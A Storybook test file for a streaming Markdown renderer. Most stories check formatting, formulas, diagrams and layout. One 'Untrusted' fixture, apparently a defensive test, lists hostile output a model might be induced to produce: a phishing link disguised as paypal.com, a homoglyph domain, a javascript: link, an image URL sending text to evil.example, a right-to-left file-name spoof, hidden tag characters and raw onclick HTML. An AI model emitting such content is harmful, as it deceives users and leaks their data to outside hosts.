import 'katex/dist/katex.min.css'
import type { ComponentProps } from 'react'
import { HighlightedCode } from '@rivulet/markdown/code'
import { Formula } from '@rivulet/markdown/math'
import { Mermaid } from '@rivulet/markdown/mermaid'
import { Markdown } from '@rivulet/markdown/react'
import type { Meta, StoryObj } from '@storybook/react-vite'
import { expect, userEvent, waitFor, within } from 'storybook/test'
import { held, lastOf, recorded, type RecordedStory } from '../testing/recorded.fixture.js'

type MarkdownProps = ComponentProps<typeof Markdown>

const meta: Meta<typeof Markdown> = {
  title: 'Markdown',
  component: Markdown,
  args: {
    text: '',
    math: true,
    footnotes: true,
    components: { codeText: HighlightedCode, formula: Formula, figures: { mermaid: Mermaid } },
  },
  argTypes: { components: { control: false }, renderBlock: { control: false } },
  decorators: [(Story) => <div className="story-column">{Story()}</div>],
}

export default meta
type Story = StoryObj<typeof Markdown>

/** The text of a recording's answer. */
const from = (name: string, rest: Pick<RecordedStory, 'at'> = {}) =>
  recorded<MarkdownProps>({
    name,
    ...rest,
    show: (chat) => {
      const { wire, state } = lastOf(chat)
      return { text: typeof wire.content === 'string' ? wire.content : '', streaming: state === 'streaming', source: undefined }
    },
  })

/** An answer while it comes: play it, and step through it, in the Stream panel. What is closed stays as it is drawn. */
export const Growing: Story = {
  parameters: from('inferex-markdown', { at: 0.55 }),
  play: async ({ canvasElement }) => {
    const canvas = await held(canvasElement)
    await expect(canvasElement.querySelector('.rivulet-markdown[data-streaming]')).not.toBeNull()
    await expect(canvasElement.querySelectorAll('[data-live], [data-between]')).toHaveLength(1)
    await expect(canvas.getAllByRole('heading').length).toBeGreaterThan(2)
  },
}

/** The same, whole. */
export const Whole: Story = {
  parameters: from('inferex-markdown'),
  play: async ({ canvasElement }) => {
    const canvas = await held(canvasElement)
    await expect(canvasElement.querySelector('[data-streaming], [data-live]')).toBeNull()
    await expect(within(canvas.getByRole('table')).getAllByRole('row')).toHaveLength(6)
  },
}

const EVERYTHING = `# A brook, described

A paragraph with *emphasis*, **strong words**, ***both***, ~~second thoughts~~, \`code\`, a [link](https://example.com/brook "To the brook"),
a bare address as in https://example.com/stream and a footnote[^spring].

## Lists

- Stones
- Sand
  - fine
  - coarse
    1. sharp
    2. round

3. An ordered list that begins with three,

   whose items have paragraphs of their own.
4. Like this one.

- [x] Follow the water
- [ ] Write down where it goes

### What was said of it

> Nobody steps into the same river twice.
>
> > And nobody reads the same stream twice.

| Water | Width | Flow |
| :-- | --: | :-: |
| rivulet | 0.3 m | slow |
| brook | 2 m | lively |
| river | 40 m | **strong** |

\`\`\`ts
for await (const chunk of stream) draw(chunk)
\`\`\`

---

#### The end

[^spring]: Where it comes out of the ground.
`

/** All that is read: CommonMark, GFM, footnotes. */
export const Everything: Story = {
  args: { text: EVERYTHING, footnotes: true },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement)
    await expect(canvas.getByRole('doc-noteref', { name: 'Footnote 1' })).toBeVisible()
    await userEvent.click(canvas.getByRole('button', { name: 'Back to where footnote 1 is called' }))
    await expect(canvas.getByRole('doc-noteref', { name: 'Footnote 1' })).toHaveFocus()
  },
}

const UNTRUSTED = `A link that names another host: [paypal.com](https://evil.example/login), one with letters that look alike:
[my bank](https://p\u0430ypal.example/), and one that leads nowhere: [click](javascript:alert(1)).

![A map of the valley](https://evil.example/map.png?d=what-was-said)

Marked: file\u202egnp.exe, and what was smuggled in: Hi\u{e0049}\u{e0067}.

<div onclick="alert(1)">Raw HTML is text.</div>
`

/** What a model may be made to say: nothing of it runs, asks for anything, or passes for something else. */
export const Untrusted: Story = {
  args: { text: UNTRUSTED },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement)
    await expect(canvas.getByRole('link', { name: /^paypal\.com ?\(evil\.example\)$/ })).toBeVisible()
    await expect(canvas.getByText('click')).not.toHaveAttribute('href')
    await expect(canvas.getByRole('button', { name: /Load image from evil\.example/ })).toBeVisible()
    await expect(canvasElement.querySelector('img')).toBeNull()
    await expect(canvas.getByText('U+202E')).toBeVisible()
  },
}

const DRAWN = `A formula in a line, $e^{i\\pi} + 1 = 0$, and one by itself:

$$
T = t_1 + \\frac{n}{r}
$$

A diagram:

\`\`\`mermaid
graph LR
  spring --> rivulet --> brook --> river
\`\`\`

And what cannot be drawn stays as it was written: $\\frac{1}{$

\`\`\`mermaid
graph LR
  spring --
\`\`\`
`

/** Formulas and diagrams, each drawn once it is whole, by a library that is loaded then. */
export const FormulasAndDiagrams: Story = {
  args: { text: DRAWN },
  play: async ({ canvasElement }) => {
    const canvas = within(canvasElement)
    await waitFor(() => expect(canvasElement.querySelectorAll('.katex')).toHaveLength(2))
    await expect(await canvas.findByRole('img', {}, { timeout: 60_000 })).toBeVisible()
    await waitFor(() => expect(canvasElement.querySelector('.rivulet-diagram-failed')).toBeVisible())
  },
}

/** A table that is wider than its column scrolls in itself, and so does code. */
export const Wide: Story = {
  args: {
    text: `| ${Array.from({ length: 14 }, (_, index) => `Column ${index + 1}`).join(' | ')} |\n|${'--|'.repeat(14)}\n| ${Array.from({ length: 14 }, (_, index) => 10 ** (index % 7)).join(' | ')} |\n\n\`\`\`\n${'a line that goes on and on '.repeat(12)}\n\`\`\`\n\nhttps://example.com/${'rivulet-'.repeat(40)}`,
  },
  play: async ({ canvasElement }) => {
    const text = canvasElement.querySelector('.rivulet-markdown')
    await waitFor(() => expect(text && text.scrollWidth <= text.clientWidth).toBe(true))
  },
}

export const RightToLeft: Story = {
  parameters: from('inferex-right-to-left'),
  globals: { direction: 'rtl' },
  play: async ({ canvasElement }) => void (await held(canvasElement)),
}

export const CjkAndEmoji: Story = {
  parameters: from('inferex-cjk-emoji'),
  play: async ({ canvasElement }) => void (await held(canvasElement)),
}

/** Before the first words: nothing is drawn. */
export const Empty: Story = {
  args: { text: '', streaming: true },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector('.rivulet-markdown')).toBeEmptyDOMElement()
  },
}
